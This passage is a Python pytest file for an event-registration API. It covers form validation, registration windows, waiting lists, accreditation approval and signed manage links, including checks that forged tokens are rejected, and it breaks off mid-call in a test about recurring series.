"""Registrations over the HTTP API, on SQLite and PostgreSQL.

The public form (validation, window, duplicates), seats with double opt-in and the waiting
list, accreditation, manage links, and the organizers' views. Mail goes to this test's own
Maildir through the app's own outbox worker; where a test needs a manage link it signs one
with the configured key, or reads the one that was mailed.
"""

from __future__ import annotations

import asyncio
import csv
import io
import re
import time
from collections.abc import AsyncIterator
from contextlib import asynccontextmanager
from datetime import UTC, datetime, timedelta
from email import message_from_bytes, policy
from email.message import EmailMessage
from pathlib import Path
from typing import Any

import pytest
from icalendar import Calendar
from sqlalchemy import select, update
from sqlalchemy.ext.asyncio import AsyncSession

from scheduler import manage_links
from scheduler.database import open_database
from scheduler.models import Accreditation, Event, Notification, Registration, utc_now
from scheduler.registrations import expire_holds
from scheduler.reminders import REMINDER_KINDS
from scheduler.settings import Settings
from tests.conftest import Api, base_settings

SECRET = "registration-tests-secret"
YEAR = datetime.now(UTC).year + 2
START = datetime(YEAR, 5, 12, 14, 0, tzinfo=UTC)  # 10:00 in New York (EDT)
END = datetime(YEAR, 5, 12, 21, 0, tzinfo=UTC)


@pytest.fixture
def settings(database_url: str, tmp_path: Path) -> Settings:
    """Known signing key; mail into this test's folder; the outbox sweeps every second."""
    return base_settings(database_url, tmp_path).replace(
        secret_key=SECRET, mail_maildir=tmp_path / "mail", mail_sweep_seconds=1
    )


# --- Helpers ------------------------------------------------------------------------------


async def make_process(api: Api, slug: str = "gcm") -> int:
    r = await api.client.post(
        "/api/processes",
        json={"slug": slug, "name": "GCM review", "time_zone": "America/New_York"},
        headers=api.auth,
    )
    assert r.status_code == 201, r.text
    return int(r.json()["id"])


async def make_event(api: Api, process_id: int, **changes: Any) -> dict[str, Any]:
    body: dict[str, Any] = {
        "process_id": process_id,
        "kind": "stakeholder_hearing",
        "title": "Informal multi-stakeholder hearing",
        "time_zone": "America/New_York",
        "start": START.isoformat(),
        "end": END.isoformat(),
        "venue": "Conference Room 4",
        "status": "published",
    }
    body.update(changes)
    r = await api.client.post("/api/events", json=body, headers=api.auth)
    assert r.status_code == 201, r.text
    event: dict[str, Any] = r.json()
    return event


def person(name: str, **changes: Any) -> dict[str, Any]:
    body: dict[str, Any] = {
        "name": name,
        "email": name.split()[0].lower() + "@example.org",
        "constituency": "civil_society",
        "country": "KEN",
        "language": "en",
        "time_zone": "Africa/Nairobi",
    }
    body.update(changes)
    return body


async def register(api: Api, event_id: int, body: dict[str, Any], status: int = 201) -> Any:
    r = await api.client.post(f"/api/events/{event_id}/registrations", json=body)
    assert r.status_code == status, r.text
    return r.json()


def refused(r: Any, status: int = 400) -> tuple[str, str]:
    """The field a refusal names, and its reason."""
    assert r.status_code == status, r.text
    (extra,) = r.json()["extra"]
    return str(extra["key"]), str(extra["message"])


@asynccontextmanager
async def database(api: Api, *, write: bool = False) -> AsyncIterator[AsyncSession]:
    """A session on the test's database through a Database of our own."""
    db = open_database(api.settings)
    try:
        if write:
            async with db.writer.begin() as session:
                yield session
        else:
            async with db.reader() as session:
                yield session
    finally:
        await db.dispose()


async def token_for(api: Api, registration_id: int) -> str:
    """The manage link token, signed as the outbox signs it for the mail."""
    async with database(api) as session:
        reg = await session.get(Registration, registration_id)
        assert reg is not None
        return manage_links.sign(reg.id, reg.token_nonce, SECRET.encode())


async def listed(api: Api, event_id: int, **params: Any) -> dict[str, Any]:
    r = await api.client.get(
        f"/api/events/{event_id}/registrations", params=params, headers=api.auth
    )
    assert r.status_code == 200, r.text
    page: dict[str, Any] = r.json()
    return page


async def statuses(api: Api, event_id: int) -> dict[int, str]:
    return {r["id"]: r["status"] for r in (await listed(api, event_id))["items"]}


async def notifications(api: Api, **params: Any) -> list[dict[str, Any]]:
    r = await api.client.get("/api/notifications", params=params, headers=api.auth)
    assert r.status_code == 200, r.text
    items: list[dict[str, Any]] = r.json()["items"]
    return items


async def all_sent(api: Api, count: int) -> list[dict[str, Any]]:
    """Wait (bounded) until the outbox has delivered exactly ``count`` messages (reminders,
    planned for the days before the event, are not counted)."""
    deadline = time.monotonic() + 15
    while True:
        items = [i for i in await notifications(api, limit=1000) if i["kind"] not in REMINDER_KINDS]
        if len(items) >= count and all(i["status"] == "sent" for i in items):
            assert len(items) == count, [(i["kind"], i["recipient_email"]) for i in items]
            return items
        assert time.monotonic() < deadline, items
        await asyncio.sleep(0.05)


def maildir_messages(folder: Path) -> list[EmailMessage]:
    messages = []
    for sub in ("new", "cur"):
        if (folder / sub).is_dir():
            for path in sorted((folder / sub).iterdir()):
                msg = message_from_bytes(path.read_bytes(), policy=policy.default)
                assert isinstance(msg, EmailMessage)
                messages.append(msg)
    return messages


async def mailed(api: Api, to: str, subject_part: str) -> list[EmailMessage]:
    """Wait (bounded) for a mail to ``to`` whose subject contains ``subject_part``."""
    deadline = time.monotonic() + 15
    while True:
        found = [
            m
            for m in maildir_messages(api.settings.mail_maildir)
            if m["To"].addresses[0].addr_spec == to and subject_part in str(m["Subject"])
        ]
        if found:
            return found
        assert time.monotonic() < deadline, f"no mail {subject_part!r} to {to}"
        await asyncio.sleep(0.05)


def text_of(msg: EmailMessage) -> str:
    part = msg.get_body(("plain",))
    assert part is not None
    return str(part.get_content())


def stamp(value: str) -> datetime:
    return datetime.fromisoformat(value)


# --- The form: validation -----------------------------------------------------------------

QUESTIONS = [
    {"key": "diet", "label": "Dietary needs", "type": "choice", "choices": ["none", "vegan"],
     "required": True},
    {"key": "topics", "label": "Round tables", "type": "choice", "choices": ["one", "two"],
     "multiple": True},
    {"key": "needs_visa", "label": "Do you need a visa letter?", "type": "yes_no"},
    {"key": "statement", "label": "Your statement", "type": "text", "required": True},
]  # fmt: skip
ANSWERS = {"diet": "vegan", "statement": "On regular pathways."}


@pytest.mark.parametrize(
    ("changes", "field", "reason"),
    [
        ({"email": "amina.example.org"}, "email", "regex"),
        ({"email": "amina@example"}, "email", "regex"),
        ({"country": "XXX"}, "country", "'XXX' is not an ISO 3166-1 alpha-3 code"),
        ({"country": "ke"}, "country", "regex"),
        ({"time_zone": "Mars/Olympus_Mons"}, "time_zone", "unknown time zone"),
        ({"time_zone": "localtime"}, "time_zone", "unknown time zone"),
        ({"constituency": "aliens"}, "constituency", "Invalid enum value 'aliens'"),
        ({"language": "de"}, "language", "Invalid enum value 'de'"),
        ({"name": "   "}, "name", "must not be blank"),
        ({"answers": {"statement": "Hello"}}, "answers.diet", "an answer is required"),
        ({"answers": {"diet": "vegan"}}, "answers.statement", "an answer is required"),
        (
            {"answers": {**ANSWERS, "statement": "   "}},
            "answers.statement",
            "an answer is required",
        ),
        ({"answers": {**ANSWERS, "statement": 42}}, "answers.statement", "must be text"),
        ({"answers": {**ANSWERS, "needs_visa": "yes"}}, "answers.needs_visa", "true or false"),
        ({"answers": {**ANSWERS, "diet": "fish"}}, "answers.diet", "'fish' is not one of"),
        ({"answers": {**ANSWERS, "diet": ["none", "vegan"]}}, "answers.diet", "choose one"),
        ({"answers": {**ANSWERS, "topics": ["one", "six"]}}, "answers.topics", "'six'"),
        ({"answers": {**ANSWERS, "shoe_size": 42}}, "answers.shoe_size", "no such question"),
    ],
)
async def test_registration_refusals_name_the_field(
    api: Api, changes: dict[str, Any], field: str, reason: str
) -> None:
    pid = await make_process(api)
    event = await make_event(api, pid, questions=QUESTIONS)
    body = person("Amina Diallo", answers=ANSWERS)
    body.update(changes)
    r = await api.client.post(f"/api/events/{event['id']}/registrations", json=body)
    key, message = refused(r)
    assert key == field
    assert reason in message
    # Nothing was written: no registration, no mail.
    assert (await listed(api, event["id"]))["total"] == 0
    assert await notifications(api) == []


async def test_an_unknown_field_is_refused_by_name(api: Api) -> None:
    pid = await make_process(api)
    event = await make_event(api, pid)
    r = await api.client.post(
        f"/api/events/{event['id']}/registrations",
        json=person("Amina Diallo", favourite_colour="blue"),
    )
    assert r.status_code == 400
    assert "favourite_colour" in r.json()["extra"][0]["message"]
    assert (await listed(api, event["id"]))["total"] == 0


async def test_answers_are_cleaned_and_stored(api: Api) -> None:
    pid = await make_process(api)
    event = await make_event(api, pid, questions=QUESTIONS)
    body = person(
        "Amina Diallo",
        answers={"diet": "none", "topics": ["two"], "needs_visa": False,
                 "statement": "  On regular pathways.  "},
    )  # fmt: skip
    receipt = await register(api, event["id"], body)
    (row,) = (await listed(api, event["id"]))["items"]
    assert row["id"] == receipt["id"]
    assert row["answers"] == {
        "diet": "none", "topics": ["two"], "needs_visa": False,
        "statement": "On regular pathways.",
    }  # fmt: skip


# --- Questions, as organizers define them -------------------------------------------------


@pytest.mark.parametrize(
    ("questions", "field", "reason"),
    [
        ([{"key": "diet", "label": "Diet", "type": "date"}], "questions[0].type", "'date'"),
        ([{"key": "Diet", "label": "Diet", "type": "text"}], "questions[0].key", "lower-case"),
        (
            [
                {"key": "diet", "label": "Diet", "type": "text"},
                {"key": "diet", "label": "Diet again", "type": "text"},
            ],
            "questions[1].key",
            "'diet' is used twice",
        ),
        ([{"key": "diet", "label": "  ", "type": "text"}], "questions[0].label", "1 to 500"),
        ([{"key": "diet", "label": "Diet", "type": "choice"}], "questions[0].choices", "distinct"),
        (
            [{"key": "diet", "label": "Diet", "type": "choice", "choices": ["a", "a"]}],
            "questions[0].choices",
            "distinct",
        ),
        (
            [{"key": "visa", "label": "Visa?", "type": "yes_no", "choices": ["yes"]}],
            "questions[0].choices",
            "only a choice question has choices",
        ),
        (
            [{"key": "visa", "label": "Visa?", "type": "yes_no", "hint": "x"}],
            "questions[0]",
            "hint",
        ),
    ],
)
async def test_question_definitions_are_checked(
    api: Api, questions: list[dict[str, Any]], field: str, reason: str
) -> None:
    pid = await make_process(api)
    body = {
        "process_id": pid, "kind": "consultation", "title": "Consultation",
        "time_zone": "UTC", "start": START.isoformat(), "end": END.isoformat(),
        "questions": questions,
    }  # fmt: skip
    r = await api.client.post("/api/events", json=body, headers=api.auth)
    assert r.status_code == 400, r.text
    (extra,) = r.json()["extra"]
    assert extra["key"] == field
    assert reason in extra["message"]
    # The same definitions are refused on a change, and the event keeps its questions.
    event = await make_event(api, pid, questions=QUESTIONS)
    r = await api.client.patch(
        f"/api/events/{event['id']}", json={"questions": questions}, headers=api.auth
    )
    assert r.status_code == 400, r.text
    (extra,) = r.json()["extra"]
    assert extra["key"] == field
    stored = (await api.client.get(f"/api/events/{event['id']}")).json()["questions"]
    assert [q["key"] for q in stored] == ["diet", "topics", "needs_visa", "statement"]


async def test_organizers_change_the_questions(api: Api) -> None:
    pid = await make_process(api)
    event = await make_event(api, pid)
    assert event["questions"] == []
    await register(api, event["id"], person("Amina Diallo"))

    new = [{"key": "pronouns", "label": "Pronouns", "type": "text", "required": True}]
    r = await api.client.patch(
        f"/api/events/{event['id']}", json={"questions": new}, headers=api.auth
    )
    assert r.status_code == 200, r.text
    assert r.json()["event"]["questions"] == [
        {"key": "pronouns", "label": "Pronouns", "type": "text", "required": True,
         "choices": [], "multiple": False},
    ]  # fmt: skip
    r = await api.client.post(
        f"/api/events/{event['id']}/registrations", json=person("Li Wei", email="li@example.org")
    )
    assert refused(r) == ("answers.pronouns", "an answer is required")
    receipt = await register(api, event["id"], person("Li Wei", answers={"pronouns": "he/him"}))
    assert receipt["status"] == "held"


# --- The registration window --------------------------------------------------------------


async def test_registration_outside_its_window_writes_nothing(api: Api) -> None:
    pid = await make_process(api)
    now = utc_now()
    not_yet = await make_event(
        api, pid, registration_opens_at=(now + timedelta(days=1)).isoformat()
    )
    closed = await make_event(
        api,
        pid,
        registration_opens_at=(now - timedelta(days=10)).isoformat(),
        registration_closes_at=(now - timedelta(minutes=1)).isoformat(),
    )
    draft = await make_event(api, pid, status="draft")
    cancelled = await make_event(api, pid, status="cancelled")
    postponed = await make_event(api, pid, status="postponed")
    cases = [
        (not_yet, 409, "registration opens at"),
        (closed, 409, "registration closed at"),
        (cancelled, 409, "the event is cancelled"),
        (postponed, 409, "the event is postponed"),
        (draft, 404, f"no event {draft['id']}"),
    ]
    for event, status, detail in cases:
        r = await api.client.post(
            f"/api/events/{event['id']}/registrations", json=person("Amina Diallo")
        )
        assert r.status_code == status, r.text
        assert detail in r.json()["detail"]
        assert (await listed(api, event["id"]))["total"] == 0
    r = await api.client.post("/api/events/9999/registrations", json=person("Amina Diallo"))
    assert r.status_code == 404
    assert await notifications(api) == []

    # Once the window opens (the organizer moves it), the same request is accepted.
    r = await api.client.patch(
        f"/api/events/{not_yet['id']}",
        json={"registration_opens_at": (now - timedelta(hours=1)).isoformat()},
        headers=api.auth,
    )
    assert r.status_code == 200, r.text
    assert (await register(api, not_yet["id"], person("Amina Diallo")))["status"] == "held"


# --- One live registration per email ------------------------------------------------------


async def test_same_email_twice_is_refused_until_cancelled(api: Api) -> None:
    pid = await make_process(api)
    event = await make_event(api, pid)
    eid = event["id"]
    first = await register(api, eid, person("Amina Diallo", email="Amina@Example.org"))
    r = await api.client.post(
        f"/api/events/{eid}/registrations",
        json=person("Amina D.", email="AMINA@example.ORG", country="SEN"),
    )
    key, message = refused(r, 409)
    assert key == "email"
    assert "already registered" in message
    assert f"/api/events/{eid}/registrations/resend" in message  # the manage hint
    assert (await listed(api, eid))["total"] == 1
    # The manage link goes to the address itself: only its owner learns more.
    links = await notifications(api, kind="manage_link")
    assert [(n["recipient_email"], n["registration_id"]) for n in links] == [
        ("amina@example.org", first["id"])
    ]
    # Pressing "register" again soon after: the same answer, no second mail.
    again = await api.client.post(
        f"/api/events/{eid}/registrations", json=person("Amina", email="amina@example.org")
    )
    assert (again.status_code, again.json()) == (409, r.json())
    assert len(await notifications(api, kind="manage_link")) == 1

    # The resend route always answers the same, and mails only a registered address.
    for email in ("amina@EXAMPLE.org", "nobody@example.org"):
        r = await api.client.post(f"/api/events/{eid}/registrations/resend", json={"email": email})
        assert r.status_code == 202
        assert r.json()["detail"] == "If this address is registered, a mail is on its way."
    links = await notifications(api, kind="manage_link")
    assert [n["recipient_email"] for n in links] == ["amina@example.org"] * 2

    token = await token_for(api, first["id"])
    r = await api.client.post(f"/api/registrations/{token}/cancel")
    assert r.status_code == 200, r.text
    again = await register(api, eid, person("Amina Diallo", email="amina@example.org"))
    assert again["id"] != first["id"]
    assert await statuses(api, eid) == {first["id"]: "cancelled", again["id"]: "held"}


# --- Seats, holds and the waiting list ----------------------------------------------------


async def test_held_seats_count_and_expired_holds_promote_the_first_waiting(api: Api) -> None:
    pid = await make_process(api)
    event = await make_event(api, pid, capacity=2)
    assert event["confirmation_required"] is True
    eid = event["id"]
    a = await register(api, eid, person("Amina Diallo"))
    b = await register(api, eid, person("Bola Ade"))
    c = await register(api, eid, person("Chen Li"))
    d = await register(api, eid, person("Dara Khan"))
    assert [x["status"] for x in (a, b)] == ["held", "held"]
    assert a["hold_expires_at"] is not None
    assert a["detail"].startswith("Your seat is held")
    assert (c["status"], c["waitlist_position"]) == ("waiting", 1)
    assert (d["status"], d["waitlist_position"]) == ("waiting", 2)
    r = await api.client.get(f"/api/events/{eid}/registrations/stats", headers=api.auth)
    assert r.json()["seats_taken"] == 2
    assert r.json()["by_status"] == {"held": 2, "waiting": 2}

    # Amina confirms (twice: the second click changes nothing).
    token_a = await token_for(api, a["id"])
    r = await api.client.post(f"/api/registrations/{token_a}/confirm")
    assert r.status_code == 200, r.text
    assert r.json() == {"status": "confirmed", "detail": "Your seat is confirmed.", "promoted": 0}
    r = await api.client.post(f"/api/registrations/{token_a}/confirm")
    assert (r.status_code, r.json()["detail"]) == (200, "Already confirmed.")
    # Someone waiting has nothing to confirm.
    r = await api.client.post(f"/api/registrations/{await token_for(api, c['id'])}/confirm")
    assert refused(r, 409)[0] == "status"

    # Bola never confirms: past the hold, the seat goes to Chen, who gets a hold of his own.
    hold = timedelta(minutes=api.settings.registration_hold_minutes)
    later = utc_now() + hold + timedelta(minutes=1)
    async with database(api, write=True) as session:
        assert await expire_holds(session, later, hold) == 1
    rows = {r["id"]: r for r in (await listed(api, eid))["items"]}
    assert rows[a["id"]]["status"] == "confirmed"
    assert rows[b["id"]]["status"] == "expired"
    assert rows[c["id"]]["status"] == "held"
    assert stamp(rows[c["id"]]["hold_expires_at"]) == later + hold
    assert stamp(rows[c["id"]]["promoted_at"]) == later
    assert rows[d["id"]]["status"] == "waiting"
    view = (await api.client.get(f"/api/registrations/{await token_for(api, d['id'])}")).json()
    assert view["waitlist_position"] == 1
    # The released hold cannot be confirmed any more.
    r = await api.client.post(f"/api/registrations/{await token_for(api, b['id'])}/confirm")
    assert refused(r, 409) == ("status", "a expired registration cannot be confirmed")

    # Chen and Bola are told, by mail.
    promoted = await mailed(api, "chen@example.org", "A seat is available for you")
    assert "Please confirm by" in text_of(promoted[0])
    await mailed(api, "bola@example.org", "Your reserved seat has been released")
    kinds = {(n["kind"], n["registration_id"]) for n in await all_sent(api, 7)}
    assert ("promoted", c["id"]) in kinds and ("hold_expired", b["id"]) in kinds


async def test_raising_the_capacity_promotes_at_once(api: Api) -> None:
    pid = await make_process(api)
    event = await make_event(api, pid, capacity=1, confirmation_required=False)
    eid = event["id"]
    a = await register(api, eid, person("Amina Diallo"))
    b = await register(api, eid, person("Bola Ade"))
    c = await register(api, eid, person("Chen Li"))
    assert [x["status"] for x in (a, b, c)] == ["confirmed", "waiting", "waiting"]

    r = await api.client.patch(f"/api/events/{eid}", json={"capacity": 2}, headers=api.auth)
    assert r.status_code == 200, r.text
    assert await statuses(api, eid) == {a["id"]: "confirmed", b["id"]: "confirmed",
                                        c["id"]: "waiting"}  # fmt: skip
    waiting = (await api.client.get(f"/api/events/{eid}/waiting-list", headers=api.auth)).json()
    assert [(w["position"], w["id"]) for w in waiting] == [(1, c["id"])]

    # Fewer seats take nobody's seat away; no limit promotes everyone waiting.
    r = await api.client.patch(f"/api/events/{eid}", json={"capacity": 1}, headers=api.auth)
    assert r.status_code == 200
    assert (await statuses(api, eid))[b["id"]] == "confirmed"
    r = await api.client.patch(f"/api/events/{eid}", json={"capacity": None}, headers=api.auth)
    assert r.status_code == 200
    assert set((await statuses(api, eid)).values()) == {"confirmed"}
    promoted = await notifications(api, kind="promoted")
    assert sorted(n["registration_id"] for n in promoted) == [b["id"], c["id"]]


# --- Accreditation ------------------------------------------------------------------------


async def test_accreditation_is_asked_once_per_organisation_and_process(api: Api) -> None:
    pid = await make_process(api)
    hearing = await make_event(api, pid, capacity=1, accreditation_required=True)
    dialogue = await make_event(api, pid, title="Dialogue", accreditation_required=True)
    hid = hearing["id"]

    r = await api.client.post(f"/api/events/{hid}/registrations", json=person("Amina Diallo"))
    assert refused(r)[0] == "organisation"
    amina = await register(api, hid, person("Amina Diallo", organisation="Migrants Forum"))
    assert (amina["status"], amina["waitlist_position"]) == ("pending_approval", None)
    assert "approval" in amina["detail"]
    bola = await register(api, hid, person("Bola Ade", organisation="Diaspora Link"))
    chen = await register(api, hid, person("Chen Li", organisation="Border Watch"))
    stats = await api.client.get(f"/api/events/{hid}/registrations/stats", headers=api.auth)
    assert stats.json()["seats_taken"] == 0  # waiting for approval takes no seat

    url = f"/api/events/{hid}/registrations/{{}}/approve"
    r = await api.client.post(url.format(amina["id"]), json={})
    assert r.status_code == 401
    stranger = {"Authorization": f"Bearer {await api.new_token('Other secretariat')}"}
    r = await api.client.post(url.format(amina["id"]), json={}, headers=stranger)
    assert r.status_code == 403
    past = (utc_now() - timedelta(days=1)).isoformat()
    r = await api.client.post(url.format(amina["id"]), json={"accredit_until": past},
                              headers=api.auth)  # fmt: skip
    assert refused(r)[0] == "accredit_until"

    until = utc_now() + timedelta(days=365)
    r = await api.client.post(
        url.format(amina["id"]), json={"accredit_until": until.isoformat()}, headers=api.auth
    )
    assert r.status_code == 200, r.text
    assert r.json()["status"] == "held"
    r = await api.client.post(url.format(amina["id"]), json={}, headers=api.auth)
    assert refused(r, 409) == ("status", "a held registration cannot be approved")
    # The seat is taken: the next approved organisation waits.
    r = await api.client.post(url.format(bola["id"]), json={}, headers=api.auth)
    assert (r.json()["status"], r.json()["waitlist_position"]) == ("waiting", 1)

    r = await api.client.post(
        f"/api/events/{hid}/registrations/{chen['id']}/reject",
        json={"reason": "Not an organisation in consultative status."},
        headers=api.auth,
    )
    assert r.status_code == 200, r.text
    r = await api.client.post(
        f"/api/events/{hid}/registrations/{chen['id']}/reject", json={}, headers=api.auth
    )
    assert refused(r, 409)[0] == "status"
    r = await api.client.post(url.format(chen["id"]), json={}, headers=api.auth)
    assert refused(r, 409) == ("status", "a rejected registration cannot be approved")
    assert await statuses(api, hid) == {
        amina["id"]: "held", bola["id"]: "waiting", chen["id"]: "rejected",
    }  # fmt: skip
    rejected = await mailed(api, "chen@example.org", "was not approved")
    assert "Not an organisation in consultative status." in text_of(rejected[0])

    # The accreditation holds for the whole process, whatever the spacing and case.
    async with database(api) as session:
        accredited = {
            a.organisation_key: (a.organisation, a.expires_at)
            for a in await session.scalars(select(Accreditation))
        }
        assert accredited["migrants forum"] == ("Migrants Forum", until)
        assert set(accredited) == {"migrants forum", "diaspora link"}  # not the rejected one
    colleague = await register(
        api, dialogue["id"], person("Dara Khan", organisation="  MIGRANTS   forum ")
    )
    assert colleague["status"] == "held"
    # Not in another process, though.
    other = await make_event(api, await make_process(api, "other"), accreditation_required=True)
    elsewhere = await register(api, other["id"], person("Dara Khan", organisation="Migrants Forum"))
    assert elsewhere["status"] == "pending_approval"

    # Once the accreditation has expired, the organisation is asked again.
    async with database(api, write=True) as session:
        await session.execute(
            update(Accreditation)
            .where(Accreditation.organisation_key == "migrants forum")
            .values(expires_at=utc_now() - timedelta(minutes=1))
        )
    late = await register(api, dialogue["id"], person("Eva Ruiz", organisation="Migrants Forum"))
    assert late["status"] == "pending_approval"
    # Approving again renews it.
    r = await api.client.post(
        f"/api/events/{dialogue['id']}/registrations/{late['id']}/approve",
        json={},
        headers=api.auth,
    )
    assert r.json()["status"] == "held"
    async with database(api) as session:
        renewed = await session.scalar(
            select(Accreditation.expires_at).where(
                Accreditation.process_id == pid, Accreditation.organisation_key == "migrants forum"
            )
        )
        assert renewed is not None and renewed > utc_now() + timedelta(days=3 * 365)


# --- Manage links -------------------------------------------------------------------------


async def test_manage_link_shows_changes_and_cancels(api: Api) -> None:
    pid = await make_process(api)
    event = await make_event(
        api, pid, capacity=1, questions=[{"key": "diet", "label": "Diet", "type": "text"}]
    )
    eid = event["id"]
    first = await register(api, eid, person("Amina Diallo", time_zone="Africa/Dakar"))
    second = await register(
        api, eid, person("Bola Ade", time_zone="Asia/Tokyo", language="fr", region="Asia")
    )
    token = await token_for(api, second["id"])

    r = await api.client.get(f"/api/registrations/{token}")
    assert r.status_code == 200, r.text
    view = r.json()
    assert (view["id"], view["status"], view["waitlist_position"]) == (
        second["id"], "waiting", 1,
    )  # fmt: skip
    assert (view["email"], view["language"], view["region"]) == ("bola@example.org", "fr", "Asia")
    assert view["event"]["id"] == eid
    assert view["event"]["time_zone"] == "America/New_York"
    assert view["event"]["start_local"] == f"{YEAR}-05-12T10:00:00-04:00"
    assert view["event"]["end_local"] == f"{YEAR}-05-12T17:00:00-04:00"
    assert view["event"]["start_in_your_time_zone"] == f"{YEAR}-05-12T23:00:00+09:00"
    assert view["calendar_url"] == f"/api/registrations/{token}/calendar.ics"
    first_view = await api.client.get(f"/api/registrations/{await token_for(api, first['id'])}")
    assert first_view.json()["event"]["start_in_your_time_zone"] == f"{YEAR}-05-12T14:00:00+00:00"
    assert first_view.json()["waitlist_position"] is None

    r = await api.client.patch(
        f"/api/registrations/{token}",
        json={"answers": {"diet": " vegan "}, "language": "ar", "time_zone": "Africa/Dakar"},
    )
    assert r.status_code == 200, r.text
    changed = r.json()
    assert (changed["answers"], changed["language"], changed["time_zone"]) == (
        {"diet": "vegan"}, "ar", "Africa/Dakar",
    )  # fmt: skip
    assert changed["event"]["start_in_your_time_zone"] == f"{YEAR}-05-12T14:00:00+00:00"
    for body, field in (
        ({"time_zone": "Nowhere/Special"}, "time_zone"),
        ({"answers": {"shoe_size": 42}}, "answers.shoe_size"),
        ({"language": "xx"}, "language"),
        ({"name": " "}, "name"),
    ):
        r = await api.client.patch(f"/api/registrations/{token}", json=body)
        assert refused(r)[0] == field
    r = await api.client.patch(f"/api/registrations/{token}", json={"email": "new@example.org"})
    assert r.status_code == 400  # the address is not changed through the link
    assert (await api.client.get(f"/api/registrations/{token}")).json() == {
        **changed, "waitlist_position": 1,
    }  # fmt: skip

    r = await api.client.post(f"/api/registrations/{token}/cancel")
    assert r.status_code == 200, r.text
    assert r.json() == {
        "status": "cancelled", "detail": "Your registration is cancelled.", "promoted": 0,
    }  # fmt: skip
    r = await api.client.post(f"/api/registrations/{token}/cancel")
    assert refused(r, 409) == ("status", "this registration is already cancelled")
    r = await api.client.patch(f"/api/registrations/{token}", json={"language": "en"})
    assert refused(r, 409)[0] == "status"
    view = (await api.client.get(f"/api/registrations/{token}")).json()
    assert (view["status"], view["waitlist_position"]) == ("cancelled", None)


async def test_revoking_a_link_mails_a_new_one(api: Api) -> None:
    pid = await make_process(api)
    event = await make_event(api, pid)
    receipt = await register(api, event["id"], person("Amina Diallo"))
    old = await token_for(api, receipt["id"])
    # The link mailed with the registration is the one we signed.
    (confirm_mail,) = await mailed(api, "amina@example.org", "Please confirm your registration")
    assert f"/registrations/{old}" in text_of(confirm_mail)

    r = await api.client.post(f"/api/registrations/{old}/revoke")
    assert r.status_code == 200, r.text
    assert r.json()["status"] == "revoked"
    assert (await api.client.get(f"/api/registrations/{old}")).status_code == 404
    assert (await api.client.post(f"/api/registrations/{old}/cancel")).status_code == 404

    (link_mail,) = await mailed(api, "amina@example.org", "Your registration link")
    match = re.search(r"/registrations/(\d+\.[A-Za-z0-9_-]{32})\s", text_of(link_mail))
    assert match is not None
    new = match.group(1)
    assert new != old
    r = await api.client.get(f"/api/registrations/{new}")
    assert (r.status_code, r.json()["id"]) == (200, receipt["id"])

    # Organizers can revoke every link too.
    r = await api.client.post(
        f"/api/events/{event['id']}/registrations/{receipt['id']}/revoke-links", headers=api.auth
    )
    assert r.status_code == 200
    assert (await api.client.get(f"/api/registrations/{new}")).status_code == 404


async def test_forged_tokens_get_a_404_that_tells_nothing(api: Api) -> None:
    pid = await make_process(api)
    event = await make_event(api, pid)
    receipt = await register(api, event["id"], person("Amina Diallo"))
    other = await register(api, event["id"], person("Bola Ade"))
    token = await token_for(api, receipt["id"])
    rid, signature = token.split(".")
    flipped = signature[:-1] + ("A" if signature[-1] != "A" else "B")
    async with database(api) as session:
        nonce = await session.scalar(
            select(Registration.token_nonce).where(Registration.id == receipt["id"])
        )
    assert nonce is not None
    forged = [
        f"{rid}.{flipped}",  # wrong signature
        f"{other['id']}.{signature}",  # another registration's id with this signature
        manage_links.sign(receipt["id"], nonce, b"another key"),  # signed with another key
        f"{rid}.{signature[:10]}",  # wrong shape
        "hello",
        f"{rid}",
        f"-{rid}.{signature}",
        "a" * 300,
        manage_links.sign(999_999, nonce, SECRET.encode()),  # unknown id, right shape
        manage_links.sign(999_999_999_999, nonce, SECRET.encode()),  # beyond any row id
        manage_links.sign(0, nonce, SECRET.encode()),
    ]
    bodies = set()
    for bad in forged:
        for method, path in (
            ("GET", ""), ("PATCH", ""), ("POST", "/confirm"), ("POST", "/cancel"),
            ("POST", "/revoke"), ("GET", "/calendar.ics"),
        ):  # fmt: skip
            kwargs: dict[str, Any] = {"json": {"language": "fr"}} if method == "PATCH" else {}
            r = await api.client.request(method, f"/api/registrations/{bad}{path}", **kwargs)
            assert r.status_code == 404, (bad, path, r.text)
            bodies.add(r.text)
    assert len(bodies) == 1
    (body,) = bodies
    assert str(receipt["id"]) not in body and "amina" not in body.lower()
    # Nothing changed behind the forged links.
    assert await statuses(api, event["id"]) == {receipt["id"]: "held", other["id"]: "held"}
    assert (await api.client.get(f"/api/registrations/{token}")).json()["language"] == "en"


async def test_links_expire_some_days_after_the_event(api: Api) -> None:
    pid = await make_process(api)
    event = await make_event(api, pid)
    receipt = await register(api, event["id"], person("Amina Diallo"))
    token = await token_for(api, receipt["id"])
    days = api.settings.manage_link_days_after_event

    async def event_ended(ago: timedelta) -> None:
        end = utc_now() - ago
        async with database(api, write=True) as session:
            await session.execute(
                update(Event)
                .where(Event.id == event["id"])
                .values(starts_at=end - timedelta(hours=3), ends_at=end, series_ends_at=end)
            )

    await event_ended(timedelta(days=days - 1))
    assert (await api.client.get(f"/api/registrations/{token}")).status_code == 200
    await event_ended(timedelta(days=days, hours=1))
    for method, path in (("GET", ""), ("POST", "/cancel"), ("GET", "/calendar.ics")):
        r = await api.client.request(method, f"/api/registrations/{token}{path}")
        assert r.status_code == 410, (path, r.text)
        assert r.json()["detail"] == "this link has expired"
    assert await statuses(api, event["id"]) == {receipt["id"]: "held"}
    # A forged token for the same event is still just not found.
    rid, signature = token.split(".")
    r = await api.client.get(f"/api/registrations/{rid}.{signature[::-1]}")
    assert r.status_code == 404


async def test_links_of_a_series_last_until_its_last_meeting(api: Api) -> None:
    pid = await make_process(api)
    event = await make_event(
        api, pid, kind="dialogue_meeting", title="Dialogue", rrule="FREQ=WEEKLY;COUNT=20"
    )
    receipt = await register(api, event["id"], person("Amina Diallo"))
    token = await token_for(api, receipt["id"])
    days = api.settings.manage_link_days_after_event
    # The organizer moves the series: its first meeting was long ago, its last is ahead.
    first = (utc_now() - timedelta(days=days + 10)).replace(microsecond=0)
    r = await api.client.patch(
        f"/api/events/{event['id']}",
        json={"start": first.isoformat(), "end": (first + timedelta(hours=2)).isoformat()},
        headers=api.auth,
    )
    assert r.status_code == 200, r.text
    assert stamp(r.json()["event"]["series_end"]) > utc_now() + timedelta(weeks=10)
    r = await api.client.get(f"/api/registrations/{token}")
    assert r.status_code == 200, r.text
    assert r.json()["status"] == "held"
    # Once the last meeting is long over, the link is gone too.
    first -= timedelta(weeks=20)
    r = await api.client.patch(
